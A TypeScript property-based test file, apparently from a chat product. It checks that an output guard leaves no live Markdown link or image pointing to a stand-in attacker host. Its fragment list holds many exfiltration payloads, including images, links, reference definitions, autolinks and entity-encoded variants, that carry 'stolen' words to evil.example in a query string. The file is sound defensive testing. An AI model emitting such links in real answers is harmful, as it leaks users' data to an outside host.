// What the guard calls dead is dead for the renderers themselves: answers built from everything that makes Markdown ambiguous are
// guarded, rendered in four ways, and must hold no link and no image that carries words to the foreign host.

import fc from "fast-check";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import ReactMarkdown, { type Options } from "react-markdown";
import remarkGfm from "remark-gfm";
import remarkMath from "remark-math";
import { expect, test } from "vitest";
import { normalizeMath } from "../app/_ui/markdown/math-delimiters.ts";
import { splitBlocks } from "../app/_ui/markdown/split-blocks.ts";
import { createOutputGuard } from "../lib/guard/output-guard.ts";
import { toOutputRules } from "../lib/guard/output-rules.ts";
import { DEFAULT_GUARD_POLICY } from "../lib/guard/policy.ts";

const RULES = toOutputRules(DEFAULT_GUARD_POLICY);
const FOREIGN = `https://evil.example/?d=${"stolen-word-".repeat(5)}`;

const PLUGINS: readonly NonNullable<Options["remarkPlugins"]>[] = [[], [remarkGfm], [remarkGfm, remarkMath]];

/** The parser's development build asserts that a line such as "*" and a link are no task: what it refuses, it does not show. */
function render(text: string, remarkPlugins: NonNullable<Options["remarkPlugins"]>): string {
  try {
    return renderToStaticMarkup(createElement(ReactMarkdown, { remarkPlugins, urlTransform: (url) => url }, text));
  } catch {
    return "";
  }
}

/** As the product shows answers: math unified, then block by block. */
function renderInBlocks(text: string): string {
  return splitBlocks(normalizeMath(text))
    .map((block) => render(block, [remarkGfm, remarkMath]))
    .join("\n");
}

function guarded(text: string): string {
  const guard = createOutputGuard({ rules: RULES });
  return guard.push(text) + guard.end();
}

const LIVE = /(?:href|src)="[^"]*evil\.example[^"]*"/;

const PIECES = [
  ..."`|$\\[]()<>*_ a",
  ..."``,```,````,~~~,$$,\\[,\\],\\(,\\),\\`,\n,\n\n,\r,\r\n,\t, - ,   ,    ,- ,1. ,> ,# ,| a | b |\n| - | - |\n,<div>,</div>,<!--,-->,<a ,<pre>,</pre>,![".split(
    ",",
  ),
  ..."```js\n,\n```\n,\n~~~\n,\n   ```\n,\n  ```\n,\n- ```\n,\n> ```\n,\n$$\n".split(","),
  `![x](${FOREIGN})`,
  `[x](${FOREIGN})`,
  `![x][x]`,
  `\n[x]: ${FOREIGN}\n`,
  `[x]: <${FOREIGN}>`,
  `<${FOREIGN}>`,
  `](${FOREIGN} "t")`,
  `](<${FOREIGN}>)`,
  FOREIGN,
  FOREIGN.replace("https:", ""),
  FOREIGN.replace(":", "&colon;"),
];

const RUNS = Number(process.env.DEAD_LINK_RUNS ?? 400);

test("no renderer finds a live link to the foreign host in a guarded answer, however the answer confuses it", () => {
  const texts = fc.array(fc.constantFrom(...PIECES), { minLength: 2, maxLength: 14 }).map((parts) => parts.join(""));
  fc.assert(
    fc.property(texts, (text) => {
      const shown = guarded(text);
      for (const plugins of PLUGINS) expect(render(shown, plugins)).not.toMatch(LIVE);
      expect(renderInBlocks(shown)).not.toMatch(LIVE);
    }),
    { numRuns: RUNS },
  );
});

test("the renderers do find it in what was not guarded", () => {
  for (const text of [`![x](${FOREIGN})`, `[x](${FOREIGN})`, `[x]\n\n[x]: ${FOREIGN}`, `<${FOREIGN}>`])
    expect(render(text, [])).toMatch(LIVE);
  expect(renderInBlocks(FOREIGN)).toMatch(LIVE);
});
